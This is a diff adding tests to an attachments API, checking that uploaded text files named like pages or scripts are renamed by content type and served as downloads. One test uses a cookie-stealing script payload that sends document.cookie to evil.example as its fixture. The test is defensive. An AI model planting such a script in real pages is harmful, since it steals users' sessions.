@@ -109,6 +109,29 @@ describe(`attachments (${inject('databaseBackend')})`, () => {
     expect(await json(metadata)).toEqual(attachment)
   })
 
+  it('a text file named as a page downloads under a text name (Content-Disposition), never as .html', async () => {
+    const t = await createTenant()
+    const c = await conversation(t)
+    const page = new TextEncoder().encode(
+      '<script>fetch("https://evil.example/?" + document.cookie)</script>',
+    )
+    const response = await upload(t.tokens.CUSTOMER, c.replyPath, page, {
+      contentType: 'text/plain',
+      fileName: 'invoice.html',
+    })
+    expect(response.status, await response.clone().text()).toBe(201)
+    const attachment = await json<Attachment>(response)
+    expect(attachment).toMatchObject({ fileName: 'invoice.html.txt', contentType: 'text/plain' })
+    const [row] = await attachmentRows(c.reply.id)
+    expect(row?.fileName).toBe('invoice.html.txt')
+    const download = await api(`${c.replyPath}/attachments/${attachment.id}/content`, {
+      token: t.tokens.ADMIN,
+    })
+    expect(download.headers.get('Content-Disposition')).toBe(
+      `attachment; filename="invoice.html.txt"; filename*=UTF-8''invoice.html.txt`,
+    )
+  })
+
   it('downloads only for those who may read the message: a note’s file is 404 to the customer, any file to others', async () => {
     const [t, other] = [await createTenant(), await createTenant()]
     const c = await conversation(t)
@@ -247,6 +270,23 @@ describe('attachment file names', () => {
     const long = `${'x'.repeat(300)}.png`
     expect(sanitizeFileName(long)).toHaveLength(255)
     expect(sanitizeFileName(long).endsWith('.png')).toBe(true)
+  })
+
+  it('gives a name the extension of its content type, so a text file saved from a download is never a page or script', () => {
+    expect(sanitizeFileName('invoice.html', 'text/plain')).toBe('invoice.html.txt')
+    expect(sanitizeFileName('update.bat', 'text/plain')).toBe('update.bat.txt')
+    expect(sanitizeFileName('list.csv.js', 'text/csv')).toBe('list.csv.js.csv')
+    expect(sanitizeFileName('report', 'application/pdf')).toBe('report.pdf')
+    expect(sanitizeFileName('', 'image/png')).toBe('attachment.png')
+    // A name already of its type keeps its spelling.
+    expect(sanitizeFileName('Photo.JPG', 'image/jpeg')).toBe('Photo.JPG')
+    expect(sanitizeFileName('photo.jpeg', 'image/jpeg')).toBe('photo.jpeg')
+    expect(sanitizeFileName('notes.txt', 'text/plain')).toBe('notes.txt')
+    expect(sanitizeFileName('data.csv', 'text/csv')).toBe('data.csv')
+    // Still at most 255 characters, the extension kept.
+    const long = sanitizeFileName(`${'x'.repeat(300)}.html`, 'text/plain')
+    expect(Array.from(long)).toHaveLength(255)
+    expect(long.endsWith('.txt')).toBe(true)
   })
 
   it('drops every invisible character, not only the common ones: tags, the Arabic letter mark, fillers, annotations', () => {
